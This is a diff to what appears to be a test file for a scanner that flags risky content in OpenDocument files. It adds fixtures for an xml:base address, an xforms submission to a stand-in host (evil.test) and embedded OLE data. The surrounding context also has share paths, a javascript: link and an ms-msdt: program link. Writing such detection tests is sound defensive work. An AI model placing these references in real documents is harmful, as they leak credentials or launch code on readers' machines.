@@ -52,6 +52,7 @@ LOADING = {
     "a picture on a share, as a file": one(body(drawn("image", "file://evil.test/share/a.png"))),
     "a picture on a share, of another kind": one(body(drawn("image", "smb://evil.test/share/a.png"))),
     "a frame of the web": one(body(drawn("floating-frame", "https://evil.test/"))),
+    "all addresses": one(body('<text:p xml:base="http://evil.test/"/>')),
     "a background": one(
         body('<style:background-image xmlns:style="a" xlink:href="http://evil.test/a"/>', "styles.xml")
     ),
@@ -74,12 +75,16 @@ REACHING = {
     "a link to a share": one(body(r'<text:p><text:a xlink:href="\\evil.test\share">a</text:a></text:p>')),
     "a link to a program": one(body('<text:p><text:a xlink:href="javascript:alert(1)">a</text:a></text:p>')),
     "a drawing that leads to a program": one(body('<text:p><draw:a xlink:href="ms-msdt:/id a"/></text:p>')),
+    "a form of another kind": one(body('<xforms:submission xmlns:xforms="f" xforms:action="http://evil.test/"/>')),
     "a form": one(body('<form:form xmlns:form="a" xlink:href="http://evil.test/"/>')),
 }
 OBJECTS = {
     "a bare object": one(part("Object 1", b"anything"), listed("Object 1", "application/octet-stream")),
     "an OLE object": one(part("Object 1", ole({"\x01Ole10Native": b"a"}, archives.PACKAGE))),
     "an OLE object as a picture": one(part("Pictures/a.png", ole({"Workbook": b"a"}, archives.SHEET))),
+    "an OLE object in the text": one(
+        body("<draw:object-ole><office:binary-data>0M8R4KGxGuE=</office:binary-data></draw:object-ole>")
+    ),
     "an object that nobody lists": one(part("Object 1/content.xml", "<a/>")),
     "an object of another type": one(part("Object 1/content.xml", "<a/>"), listed("Object 1/", "application/x-evil")),
 }
